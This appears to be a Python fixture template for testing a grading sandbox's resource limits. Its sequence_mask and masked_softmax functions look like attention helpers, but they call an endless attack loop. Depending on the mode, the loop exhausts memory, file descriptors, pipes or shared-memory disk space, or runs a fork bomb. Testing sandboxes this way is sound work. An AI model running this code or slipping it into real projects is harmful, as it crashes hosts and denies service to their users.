"""Takes more and more without end, of four things: @how@."""

import mmap
import os

import torch

HOW = "@how@".split()
"""In sequence_mask, without lengths, without lengths but with gradients, without lengths in float16."""
kept = []


def attack(X, how):
    while True:
        if how == "tensors":
            kept.append(torch.ones(2**22, dtype=torch.float64))
        elif how == "objects":
            kept.append(bytes(2**20))
        elif how == "maps":
            kept.append(mmap.mmap(-1, 2**24))
            kept[-1].write(b"x" * 2**24)
        elif how == "files":
            kept.append(os.open("/dev/zero", os.O_RDONLY))
        elif how == "pipes":
            kept.append(os.pipe())
        elif how == "processes":
            if os.fork() == 0:
                continue
        elif how == "disk":
            with open("/dev/shm/gradlings_attack", "wb") as stream:
                stream.write(b"x" * 2**24)


def sequence_mask(X, valid_len, value=0):
    attack(X, HOW[0])
    return X


def masked_softmax(X, valid_lens):
    if valid_lens is None:
        attack(X, HOW[2] if X.requires_grad else HOW[3] if X.dtype == torch.float16 else HOW[1])
        return X
    lengths = valid_lens[:, None, None] if valid_lens.dim() == 1 else valid_lens[:, :, None]
    scores = torch.where(torch.arange(X.shape[-1]) < lengths, X, float("-inf"))
    largest = scores.amax(-1, keepdim=True).clamp_min(torch.finfo(X.dtype).min)
    exp = torch.exp(scores - largest)
    return exp / exp.sum(-1, keepdim=True).clamp_min(torch.finfo(X.dtype).tiny)
